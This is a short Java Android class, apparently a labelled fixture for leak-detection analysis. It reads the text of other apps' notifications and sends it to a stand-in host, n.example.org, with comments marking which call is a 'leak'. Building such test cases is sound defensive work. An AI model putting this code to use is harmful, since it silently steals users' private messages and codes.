package habits;

import android.app.Notification;
import android.os.Bundle;
import android.service.notification.NotificationListenerService;
import android.service.notification.StatusBarNotification;
import java.net.URL;
import java.net.URLEncoder;

/** Reads what other apps show. */
public class NoteThief extends NotificationListenerService {
    @Override
    public void onNotificationPosted(StatusBarNotification posted) {
        Bundle extras = posted.getNotification().extras;
        CharSequence text = extras.getCharSequence(Notification.EXTRA_TEXT);
        try {
            new URL("https://n.example.org/?t=" + URLEncoder.encode(String.valueOf(text), "UTF-8")).openStream(); // leak
            new URL("https://n.example.org/?id=" + posted.getId()).openStream(); // no leak
        } catch (Exception ignored) {
        }
    }
}
